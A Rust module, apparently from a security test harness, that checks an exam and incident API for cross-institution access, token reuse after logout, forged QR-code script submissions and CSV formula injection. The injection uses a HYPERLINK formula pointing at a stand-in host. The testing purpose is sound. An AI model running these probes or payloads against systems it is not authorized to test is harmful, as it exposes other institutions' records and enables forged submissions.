//! What somebody with an account of another institution can do, and what a sign-in is still worth
//! that should be worth nothing.

use anyhow::{Context as _, Result};
use reqwest::Method;
use serde_json::{Value, json};
use uuid::Uuid;

use super::{Found, Target, shortened};

type Tokens = (String, String);

pub(super) async fn attack(
    target: &Target,
    (owner, thief): (&Tokens, &Tokens),
    found: &mut Vec<Found>,
) -> Result<()> {
    let mut tried = |hole, tried, got| found.push(Found { hole, tried, got });
    let profile = target.get(Some(&thief.1), "/api/auth/profile").await?;
    tried("O6", "come in with a refresh token", profile.if_done());
    let case = Case::report(target, &owner.0).await?;
    tried(
        "O13",
        "read and change a case of another institution",
        case.stolen(target, &thief.0).await?,
    );
    tried(
        "O15",
        "count the cases of another institution",
        case.counted(target, &owner.0, &thief.0).await?,
    );
    tried(
        "O14",
        "list the cases of another institution",
        case.listed(target, &thief.0).await?,
    );
    tried(
        "O19",
        "list batches and timetables of another institution",
        listed(target, owner, thief).await?,
    );
    tried(
        "O22",
        "hand in a script by a code that nobody made",
        handed_in(target, &thief.0).await?,
    );
    tried(
        "O28",
        "put a formula into a file of the office",
        formula(target, &owner.0).await?,
    );
    let (reported, resolved) = super::sockets::untold(target, &owner.0).await?;
    tried("O26", "report a case that nobody is told of", reported);
    tried("O25", "resolve a case without anybody being told", resolved);
    tried(
        "O17",
        "write over a case without a trace",
        case.written_over(target, &owner.0).await?,
    );
    tried(
        "O17",
        "delete a case that is over",
        case.deleted(target, &owner.0).await?,
    );
    found.extend(left(target, thief).await?);
    Ok(())
}

/// Signs out, and goes on with what is left.
async fn left(target: &Target, (access, refresh): &Tokens) -> Result<[Found; 2]> {
    let path = "/api/auth/logout";
    let leave = target.post(Some(access), path, &json!({})).await?;
    let profile = target.get(Some(access), "/api/auth/profile").await?;
    let gone_on = profile.if_done().filter(|_| leave.status.is_success());
    let again = json!({ "refreshToken": refresh });
    let again = target.post(None, "/api/auth/refresh", &again).await?;
    Ok([
        ("go on after signing out", gone_on),
        ("renew after signing out", again.if_done()),
    ]
    .map(|(tried, got)| Found {
        hole: "O7",
        tried,
        got,
    }))
}

/// A case of the owner's, with words that nobody else may see.
pub(super) struct Case {
    id: String,
    pub(super) canary: String,
}

impl Case {
    pub(super) async fn report(target: &Target, owner: &str) -> Result<Self> {
        let canary = format!("canary {}", Uuid::new_v4());
        let body = json!({
            "type": "OTHER", "severity": "LOW", "title": canary, "description": canary,
        });
        let made = target.post(Some(owner), "/api/incidents", &body).await?;
        let id = made.body().pointer("/data/id").map(Value::to_string);
        let id = id.with_context(|| format!("no case: {}", made.text))?;
        Ok(Self { id, canary })
    }

    async fn stolen(&self, target: &Target, thief: &str) -> Result<Option<String>> {
        let path = format!("/api/incidents/{}", self.id);
        let asks = [
            (Method::GET, String::new(), Value::Null),
            (
                Method::PUT,
                String::new(),
                json!({ "title": "mine", "notes": "mine" }),
            ),
            (
                Method::PATCH,
                "/assign".to_owned(),
                json!({ "assignedToId": 1 }),
            ),
            (
                Method::PATCH,
                "/resolve".to_owned(),
                json!({ "resolution": "gone" }),
            ),
            (Method::DELETE, String::new(), Value::Null),
        ];
        for (method, step, body) in asks {
            let path = format!("{path}{step}");
            let answer = target.ask(Some(thief), (method, &path), &body).await?;
            // Another's number may be a number of one's own too: the words tell.
            let own = answer.status.is_success() && !answer.text.contains(&self.canary);
            if let Some(got) = answer.if_done().filter(|_| !own) {
                return Ok(Some(got));
            }
        }
        Ok(None)
    }

    /// Whether a report of the owner changes what the thief is told.
    async fn counted(&self, target: &Target, owner: &str, thief: &str) -> Result<Option<String>> {
        let path = "/api/incidents/stats/overview";
        let figures = async || -> Result<Value> {
            let answer = target.get(Some(thief), path).await?.body();
            Ok(answer.get("data").cloned().unwrap_or_default())
        };
        let before = figures().await?;
        Self::report(target, owner).await?;
        let after = figures().await?;
        Ok((before != after).then(|| format!("{before} before, {after} after")))
    }

    async fn listed(&self, target: &Target, thief: &str) -> Result<Option<String>> {
        for path in [
            "/api/incidents?limit=100",
            "/api/incidents?institutionId=1&limit=100",
            "/api/sync/events?after=0",
            "/api/export/incidents",
        ] {
            let answer = target.get(Some(thief), path).await?;
            if answer.text.contains(&self.canary) {
                return Ok(Some(format!("{path}: {}", shortened(&answer.text))));
            }
        }
        Ok(None)
    }

    /// Amended by its owner: whether the words before are anywhere to be seen.
    async fn written_over(&self, target: &Target, owner: &str) -> Result<Option<String>> {
        let path = format!("/api/incidents/{}", self.id);
        let body = json!({ "title": "other words", "description": "other words" });
        let ask = (Method::PUT, path.as_str());
        let amended = target.ask(Some(owner), ask, &body).await?;
        let mut kept = false;
        for place in [path.as_str(), "/api/sync/events?after=0&limit=2000"] {
            let shown = target.get(Some(owner), place).await?;
            kept |= shown.text.contains(&self.canary);
        }
        Ok(amended.if_done().filter(|_| !kept))
    }

    pub(super) async fn resolve(&self, target: &Target, owner: &str) -> Result<()> {
        let path = format!("/api/incidents/{}/resolve", self.id);
        let over = json!({ "resolution": format!("over, {}", self.canary) });
        let ask = (Method::PATCH, path.as_str());
        target.ask(Some(owner), ask, &over).await?;
        Ok(())
    }

    /// Resolved, as the original wants it before, and deleted: is it still there?
    async fn deleted(&self, target: &Target, owner: &str) -> Result<Option<String>> {
        let path = format!("/api/incidents/{}", self.id);
        self.resolve(target, owner).await?;
        let answer = target
            .ask(Some(owner), (Method::DELETE, &path), &Value::Null)
            .await?;
        let left = target.get(Some(owner), &path).await?;
        let gone = !left.status.is_success();
        Ok(answer
            .if_done()
            .or_else(|| gone.then(|| "it is gone".to_owned())))
    }
}

/// Whether the thief's lists hold an id that the owner's have too.
async fn listed(target: &Target, owner: &Tokens, thief: &Tokens) -> Result<Option<String>> {
    for (path, name) in [
        ("/api/batch-scripts", "batchQRCode"),
        ("/api/timetables", "title"),
    ] {
        let of = async |token: &str| -> Result<Vec<Value>> {
            let mut named = Vec::new();
            all_named(
                name,
                target.get(Some(token), path).await?.body(),
                &mut named,
            );
            Ok(named)
        };
        let (theirs, ours) = (of(&owner.0).await?, of(&thief.0).await?);
        if let Some(both) = ours.iter().find(|name| theirs.contains(name)) {
            return Ok(Some(format!("{path}: {both}")));
        }
    }
    Ok(None)
}

/// Everything of a name, however deep it lies: servers wrap their lists in different ways.
fn all_named(name: &str, inside: Value, named: &mut Vec<Value>) {
    match inside {
        Value::Array(rows) => rows.into_iter().for_each(|row| all_named(name, row, named)),
        Value::Object(fields) => {
            for (key, value) in fields {
                if key == name && !value.is_null() {
                    named.push(value.clone());
                }
                all_named(name, value, named);
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}

async fn handed_in(target: &Target, thief: &str) -> Result<Option<String>> {
    use base64::{Engine as _, engine::general_purpose::STANDARD};
    let code = json!({
        "type": "STUDENT", "studentId": 1001, "id": 1001, "indexNumber": "1001",
        "timestamp": 1_700_000_000_000_i64, "securityHash": "0".repeat(64),
    });
    for code in [STANDARD.encode(code.to_string()), "1001".to_owned()] {
        let body = json!({ "studentQRCode": code, "examEntryId": 1 });
        let path = "/api/script-submissions/submit";
        if let Some(got) = target.post(Some(thief), path, &body).await?.if_done() {
            return Ok(Some(got));
        }
    }
    Ok(None)
}

async fn formula(target: &Target, owner: &str) -> Result<Option<String>> {
    let formula = "=HYPERLINK(\"http://evil.example\")";
    let body =
        json!({ "type": "OTHER", "severity": "LOW", "title": formula, "description": formula });
    target.post(Some(owner), "/api/incidents", &body).await?;
    let file = target.get(Some(owner), "/api/export/incidents").await?;
    let bare = [",=HYPERLINK", ",\"=HYPERLINK", "\n=HYPERLINK"];
    let found = bare.into_iter().any(|cell| file.text.contains(cell));
    Ok(found.then(|| "a cell that a spreadsheet carries out".to_owned()))
}
